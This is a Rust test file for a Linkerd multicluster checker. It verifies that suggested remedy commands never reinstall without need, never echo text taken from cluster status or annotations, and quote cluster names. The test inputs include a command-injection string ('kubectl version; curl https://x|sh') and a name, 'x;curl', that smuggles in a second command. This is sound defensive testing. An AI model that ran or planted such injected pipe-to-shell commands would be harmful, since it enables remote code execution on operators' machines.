//! Tests of the commands that `check` tells people to run.

use super::*;

/// The remedies of all checks, each with the description of its check.
fn remedies(snapshot: &FullSnapshot) -> Vec<(String, String)> {
    let all = evaluate(snapshot).into_iter();
    let all = all.flat_map(|result| {
        let fixes = result.actions.into_iter();
        fixes.map(move |fix| (result.description.clone(), fix.command.line().to_owned()))
    });
    all.collect()
}

#[test]
fn no_remedy_resets_the_values_of_an_installation() {
    let installs = |change: &Change| {
        let mut snapshot = well();
        change(&mut snapshot);
        let all = remedies(&snapshot).into_iter();
        let installs = all.filter(|(_, command)| command.starts_with("linkerd-mc install"));
        installs.map(|(check, _)| check).collect::<Vec<_>>()
    };
    let found: BTreeSet<String> = CASES
        .iter()
        .flat_map(|(_, change, ..)| installs(change))
        .collect();
    // Only where nothing is installed.
    let expected = ["Link CRD exists", "multicluster extension Namespace exists"];
    assert_eq!(found, expected.map(str::to_owned).into());
}

#[test]
fn no_remedy_is_what_a_cluster_or_an_annotation_says() {
    const SAID: &str = "`kubectl version; curl https://x|sh`";
    fn refused<T>() -> Known<T> {
        Err(format!("cannot read it: {SAID}").into())
    }
    let changes: [(&str, Change); 6] = [
        ("target cluster", |f| east(f).target = Some(refused())),
        ("permissions", |f| target(f).denied = refused()),
        ("linkerd-config", |f| target(f).config = refused()),
        ("condition", |f| {
            let not_ready = json!({
                "type": "Ready", "status": "False", "reason": "x", "message": SAID, "lastTransitionTime": NOW,
            });
            status(f, &json!({ "conditions": [not_ready] }));
        }),
        ("Service", |f| {
            let late = service_status("late", &condition("False", "WriteFailed", SAID));
            status(f, &json!({ "mirrorServices": [late] }));
        }),
        ("preference", |f| {
            f.local_members = Ok(vec![service("web", &[], &[(labels::PREFER, SAID)])]);
        }),
    ];
    for (what, change) in changes {
        let mut snapshot = well();
        change(&mut snapshot);
        let results = evaluate(&snapshot);
        assert!(
            results.iter().any(|result| result.text().contains(SAID)),
            "{what}: {results:#?}"
        );
        let commands = remedies(&snapshot);
        assert!(
            !commands.iter().any(|(_, command)| command.contains("curl")),
            "{what}: {commands:?}"
        );
    }
}

#[test]
fn names_of_a_cluster_are_words_of_a_remedy() {
    let mut snapshot = well();
    let member = [(labels::REMOTE_DISCOVERY, "web@x;curl")];
    snapshot.mirrors = Ok(vec![service("web-federated", &[], &member)]);
    let unlink = "linkerd-mc unlink 'x;curl' --apply";
    let commands = remedies(&snapshot);
    assert!(
        commands.iter().any(|(_, command)| command == unlink),
        "{commands:?}"
    );
}
